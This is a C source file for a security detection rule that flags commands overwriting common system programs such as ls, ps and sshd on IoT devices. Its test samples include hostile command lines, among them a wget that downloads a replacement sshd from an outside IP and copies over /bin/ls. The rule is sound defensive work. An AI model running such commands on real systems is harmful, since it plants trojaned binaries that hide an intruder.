#include "detect/command_facts.h"
#include "detect/rule.h"

static const char *const words[] = {"/bin/", "/sbin/", "/lib/", NULL};
static const char *const common[] = {"ls", "ps", "netstat", "ss", "top", "find", "ifconfig", "ip", "login", "su", "sudo", "passwd", "sshd", "ssh", "dropbear", "init", "bash", "sh", "busybox", "cat", "grep",
                                     "df", "du", "lsof", "who", "w", "last", "crond", "cron", "systemd", "id", "kill", "mount", "wget", "curl", "telnetd", NULL};

static bool is_common(struct text path)
{
    static const char *const folders[] = {"/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/", NULL};

    for (size_t i = 0; folders[i]; i++)
        if (text_starts(path, text_of(folders[i])) && text_equal(event_base_name(path), (struct text){path.bytes + strlen(folders[i]), path.count - strlen(folders[i])}) &&
            text_among(event_base_name(path), common))
            return true;
    return false;
}

static const char *wrong_with(const struct judging *judging, const struct command *command)
{
    struct text path;

    (void)judging;
    for (size_t i = 0; (path = command_writes(command, i)).bytes; i++)
        if (is_common(path))
            return "a common program is written over";
    return NULL;
}

static const struct rule_sample samples[] = {
    {true, "$ cp /tmp/x /bin/ls"},
    {true, "$ wget -O /usr/sbin/sshd http://198.51.100.7/sshd"},
    {true, "$ sh -c 'cat /tmp/p > /bin/ps'"},
    {false, "$ cp /bin/ls /tmp/ls"},
    {false, "$ install -m 755 app /usr/local/bin/app"},
    {false, "$ dpkg -i coreutils.deb"},
};

const struct rule rule_common_files = {
    .id = "IoT_OverridingCommonFiles",
    .title = "A common program may have been replaced",
    .severity = "Medium",
    .tactics = "Persistence, DefenseEvasion",
    .techniques = "T1554, T1036.005, T1574, T0851",
    .fires = "A program that everyone uses (`ls`, `ps`, `sshd` …) written over by a copy, a move, a download or a redirection.",
    .spares = "Packages that are installed; other programs.",
    .needs = "Processes with their command lines.",
    .tuning = "An exception for the firmware's installer.",
    .remediation = rule_ask_urgent,
    .kinds = EVENT_BIT(EVENT_PROCESS),
    .words = words,
    .command = wrong_with,
    RULE_SAMPLES(samples),
};
